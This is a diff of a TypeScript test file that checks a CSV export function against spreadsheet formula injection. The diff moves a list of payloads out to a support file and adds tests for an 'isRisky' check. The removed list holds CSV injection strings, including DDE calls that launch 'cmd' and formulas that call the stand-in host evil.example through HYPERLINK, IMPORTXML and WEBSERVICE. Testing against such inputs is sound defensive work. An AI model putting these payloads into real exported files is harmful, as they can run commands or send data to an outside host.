@@ -1,46 +1,13 @@
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import {expect, test} from 'vitest';
-import {csvSheet, harmlessDivided} from '../../../src/spot/delivery/csv-sheet.ts';
-
-/** Cells that spreadsheets run, or that break out of a cell. */
-const PAYLOADS = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example","click")',
-  '=IMPORTXML("http://evil.example","//a")',
-  '=WEBSERVICE("http://evil.example")',
-  '=DDE("cmd";"/C calc";"x")',
-  '+1+1',
-  "+cmd|' /C calc'!A0",
-  '-1+1',
-  "-2+3+cmd|' /C calc'!A0",
-  '@SUM(1+1)',
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '  =1+1',
-  '\u00a0=1+1',
-  '\u200b=1+1',
-  '\ufeff=1+1',
-  '\uff1d1+1',
-  '\uff0b1+1',
-  '\uff0d1+1',
-  '\uff20SUM(1)',
-  '|cmd',
-  '%0A=1+1',
-  '","=1+1',
-  '"\r\n=1+1',
-  'Fresh;=1+1',
-  'Fresh; @SUM(1)',
-  'Fresh\n=1+1',
-];
+import {csvSheet, harmlessDivided, isRisky} from '../../../src/spot/delivery/csv-sheet.ts';
+import {FORMULAS} from '../../support/formulas.ts';
 
 /** What a spreadsheet takes for a formula. */
 const RUNS = /^[\s\u00a0\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20|%]|^[\t\r\n]/;
 
-test.each(PAYLOADS)('the cell %j is no formula, and stays one cell', (payload) => {
+test.each(FORMULAS)('the cell %j is no formula, and stays one cell', (payload) => {
   for (const delimiter of [',', '\t'] as const) {
     const text = csvSheet(['a', 'b'], [[payload, 'next']], {delimiter});
     const {data} = Papa.parse<string[]>(text, {delimiter, newline: '\r\n', skipEmptyLines: true});
@@ -51,7 +18,7 @@ test.each(PAYLOADS)('the cell %j is no formula, and stays one cell', (payload) =
   }
 });
 
-test.each(PAYLOADS)(
+test.each(FORMULAS)(
   'the cell %j is no formula either where a spreadsheet has another separator',
   (payload) => {
     const text = csvSheet(['a', 'b', 'c'], [['first', payload, 'next']]);
@@ -62,6 +29,19 @@ test.each(PAYLOADS)(
 
 test('the sheet of a platform has the texts as they are', () => {
   expect(csvSheet(['a'], [['Why;\n- light']], {exact: true})).toBe('a\r\n"Why;\n- light"\r\n');
+});
+
+test.each(FORMULAS)(
+  'the text %j is not written as it is, unless its own quotes keep it one cell',
+  (payload) => {
+    const quotes = payload.startsWith('",');
+    expect(isRisky(payload)).toBe(!quotes);
+  },
+);
+
+test('lists, numbers and semicolons in a text are no risk', () => {
+  for (const text of ['Why;\n- light\n- cold', 'Ice; and, then', '-3.5', 'a\tb', 'Rated 4.8 = good'])
+    expect(isRisky(text)).toBe(false);
 });
 
 test('numbers stay numbers', () => {
